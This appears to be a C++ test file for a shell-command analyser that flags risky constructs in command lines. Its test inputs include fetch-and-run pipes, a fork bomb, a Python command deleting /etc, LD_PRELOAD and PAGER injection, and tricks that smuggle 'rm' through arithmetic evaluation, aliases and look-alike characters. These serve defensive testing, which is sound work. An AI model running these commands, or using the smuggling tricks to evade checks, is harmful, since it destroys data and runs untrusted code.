// Doubts: the analyser says what it cannot know of a line.
#include <algorithm>
#include <string>
#include <vector>

#include "tests/runtime/command/analysed.h"

namespace gibbous::command {
namespace {

using namespace testing;

TEST_CASE("text that cannot be parsed is a doubt, and the rest is analysed") {
  const Facts found = facts("if true; rm x");
  CHECK(has(found, Doubt::kUnparsed));
}

TEST_CASE("a computed program is a doubt") {
  CHECK(doubted("$x a", Doubt::kUnknownProgram));
  CHECK(doubted("$(cat f) a", Doubt::kUnknownProgram));
  CHECK(doubted("r* a", Doubt::kUnknownProgram));
}

TEST_CASE("computed code is a doubt") {
  CHECK(doubted("eval \"$x\"", Doubt::kUnknownCode));
  CHECK(doubted("sh -c \"$x\"", Doubt::kUnknownCode));
}

TEST_CASE("code from a pipe is one doubt, and code from a decoder another") {
  CHECK(doubted("curl https://h/x | sh", Doubt::kPipedCode));
  CHECK(doubted("base64 -d f | sh", Doubt::kDecodedCode));
  CHECK(doubted("bash <(curl https://h/x)", Doubt::kPipedCode));
  CHECK(doubted("exec 3< f; sh <&3", Doubt::kPipedCode));
}

TEST_CASE("code for an interpreter is a doubt, and its calls are accesses") {
  const Facts found = facts("python3 -c 'import shutil; shutil.rmtree(\"/etc\")'");
  CHECK(has(found, Doubt::kInlineCode));
  CHECK(paths(found, AccessKind::kRemove) == Words{"/etc"});
  CHECK(facts("python3 -c 'print(1)'").doubts.empty());
}

TEST_CASE("variables that make programs run something are a doubt") {
  CHECK(doubted("LD_PRELOAD=./x ls", Doubt::kExecutingVariable));
  const Facts found = facts("PAGER='rm $x' git log");
  CHECK(command(found, "rm").argv.size() == 2);
}

TEST_CASE("such a variable is a doubt however it is set, and so is a function of that name") {
  for (const char* line :
       {": \"${LD_PRELOAD:=./x}\"", "echo ${LD_PRELOAD=./x}", "declare BASH_CMDS[ls]=./x",
        "read 'BASH_CMDS[ls]'", "printf -v 'BASH_CMDS[ls]' ./x", "export PAGER+=./x$y",
        "PROMPT_COMMAND() { ls; }"}) {
    INFO(line);
    CHECK(doubted(line, Doubt::kExecutingVariable));
  }
  CHECK_FALSE(doubted(": \"${NAME:=./x}\"; build() { ls; }", Doubt::kExecutingVariable));
}

TEST_CASE("a subcommand that runs another command is named where that is nested") {
  const Facts found = facts("pnpm dlx rm x");
  CHECK(command(found, "rm").nesting.back().by == "pnpm dlx");
}

TEST_CASE("what a compiler writes may run, and what a download writes has to be looked at") {
  CHECK_FALSE(doubted("cc -o a a.c && ./a", Doubt::kUnreadFile));
  CHECK(doubted("cc -o a a.c > b && ./b", Doubt::kUnreadFile));
  CHECK(doubted("wget https://h/dir/x.py?raw=1 && python3 x.py", Doubt::kUnreadFile));
  CHECK(paths(facts("wget https://h/ x"), AccessKind::kWrite).empty());
}

TEST_CASE("text that a builtin evaluates is a doubt") {
  for (const char* line : {"x='a[$(rm y)]'; ((x))", "let 'a[$(rm y)]'", "unset 'a[$(rm y)]'",
                           "[[ 'a[$(rm y)]' -eq 0 ]]", "read x <<< 'a[$(rm y)]'",
                           "for i in 'a[$(rm y)]'; do ((i)); done", "x='$(rm y)'; echo ${x@P}",
                           ": $((a[\\$(rm y)]))"}) {
    INFO(line);
    CHECK(doubted(line, Doubt::kEvaluatedText));
  }
}

TEST_CASE("a function that starts itself twice at once is a fork bomb") {
  CHECK(doubted(":(){ :|:& };:", Doubt::kForkBomb));
}

TEST_CASE("names in other alphabets and hidden characters are a doubt") {
  CHECK(doubted("r\xd0\xbc x", Doubt::kEncoding));
  CHECK(doubted("rm a\xe2\x80\xae", Doubt::kEncoding));
  CHECK_FALSE(doubted("rm \xc3\xa9", Doubt::kEncoding));
}

TEST_CASE("an alias that takes a known name, or more words, is a doubt") {
  CHECK(doubted("alias rm='echo x'\nrm y", Doubt::kRedefinition));
  CHECK(doubted("alias e='env '\ne x", Doubt::kRedefinition));
}

TEST_CASE("a file of code is a doubt outside the workspace, and when the line wrote it") {
  CHECK(doubted("sh /tmp/x.sh", Doubt::kUnreadFile));
  CHECK_FALSE(doubted("sh build.sh", Doubt::kUnreadFile));
  CHECK(doubted("echo $X > s; . ./s", Doubt::kUnreadFile));
  CHECK(doubted("unknown > s; sh < s", Doubt::kUnreadFile));
  CHECK(doubted("echo x > s; unknown >> s; sh < s", Doubt::kUnreadFile));
  CHECK_FALSE(doubted("echo 'rm x' > s; sh s", Doubt::kUnreadFile));
  CHECK(doubted("curl https://h/x | tee s; ./s", Doubt::kUnreadFile));
}

TEST_CASE("a shell that reads the run's own input is noted") {
  CHECK(facts("bash").reads_code == Words{"shell"});
  CHECK(facts("python3").reads_code == Words{"python"});
}

TEST_CASE("shells in which a typed line may stand for an earlier one are noted") {
  CHECK(facts("bash").has_history);
  CHECK(facts("env bash -i --norc").interactive);
  CHECK(facts("bash; dash").has_history);
  CHECK_FALSE(facts("dash").has_history);
  CHECK_FALSE(facts("dash").interactive);
}

TEST_CASE("a long line is judged with a doubt, and one that is too deep is not judged") {
  std::string many;
  for (int at = 0; at < 5000; ++at) many += "a;";
  const Facts found = facts(many);
  CHECK(found.commands.size() == 5000);
  CHECK(has(found, Doubt::kOverLimit));
  std::string deep;
  for (int at = 0; at < 100; ++at) deep += "{ ";
  CHECK(doubted(deep + "a", Doubt::kUnjudged));
}

TEST_CASE("the text of (( )) is a command for shells without it") {
  CHECK(doubted("((rm x))", Doubt::kUnparsed));
  CHECK(facts("((i+1))").doubts.empty());
}

TEST_CASE("a trap is code, with any values that variables may have") {
  CHECK(commands("trap 'rm x' EXIT").front() == "rm x");
  const Words found = commands("c=echo; trap '$c x' EXIT; c=rm");
  CHECK(std::count(found.begin(), found.end(), "rm x") == 1);
}

}  // namespace
}  // namespace gibbous::command
